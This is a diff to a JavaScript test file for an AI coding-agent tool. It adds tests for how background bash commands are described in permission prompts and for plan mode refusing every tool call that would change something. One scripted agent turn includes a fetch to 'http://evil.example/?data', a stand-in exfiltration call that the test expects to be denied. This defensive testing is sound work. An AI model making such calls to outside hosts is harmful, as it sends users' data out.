@@ -43,6 +43,47 @@ test("R73: a task's question is asked at the parent's terminal, what it did is t
   assert.match((await world.pawl(["show", child, "--store", world.store])).stdout, /session in .*, a task of s, /);
 });
 
+test("what is asked says what is meant: a command in the background, an always for this task alone", {
+  skip: noScript,
+}, async (t) => {
+  const world = new World(t);
+  const server = await world.server([
+    [...giving, { call: "bash", input: { command: "npm test", background: true } }],
+    [{ call: "bash", input: { command: "git log", background: true } }],
+    [{ text: "It is made." }],
+    [{ text: "All done." }],
+  ]);
+  const { code, stdout } = await world.inTerminal("n\nn\n", ["run", "Go", "--session", "s", ...world.place(server)]);
+  assert.equal(code, 0, stdout);
+  assert.match(stdout, /│ npm test\n {2}in the background.*\n.*\[a\]lways \(npm test \*\)/);
+  assert.match(stdout, /│ git log\n {2}in the background.*\n.*\[a\]lways in this task \(git log \*\)/);
+});
+
+test("in plan mode a task changes nothing either, whatever it is given to do with", async (t) => {
+  const world = new World(t);
+  world.configure({ permissions: [{ tool: "bash", say: "allow" }] });
+  const server = await world.server([
+    [...giving, { call: "job_kill", input: { id: "job-12345678" } }],
+    [
+      { call: "bash", input: { command: "touch made.txt" } },
+      { call: "bash", input: { command: "touch made.txt", background: true } },
+      { call: "write", input: { path: "made.txt", content: "x" } },
+      { call: "fetch", input: { url: "http://evil.example/?data" } },
+      { call: "ls", input: {} },
+    ],
+    [{ text: "Nothing made." }],
+    [{ text: "Planned." }],
+  ]);
+  const { code, stderr } = await world.pawl(["run", "Go", "--session", "s", "--mode", "plan", ...world.place(server)]);
+  assert.equal(code, 0, stderr);
+  assert.throws(() => world.read("made.txt"));
+  const told = server.requests[2]?.body ?? "";
+  assert.equal(told.split("this is plan mode: only tools that read may run").length - 1, 3);
+  assert.match(told, /TOOL_DENIED: this call needs a person's approval, and nobody is there/);
+  assert.match(server.requests.at(-1)?.body ?? "", /this is plan mode/);
+  for (const session of ["s", await childOf(world)]) assert.equal((await world.verified(session)).code, 0);
+});
+
 test("R73: with nobody to ask, a task that looks around runs, and what would change something is refused in it", async (t) => {
   const world = new World(t);
   const server = await world.server([
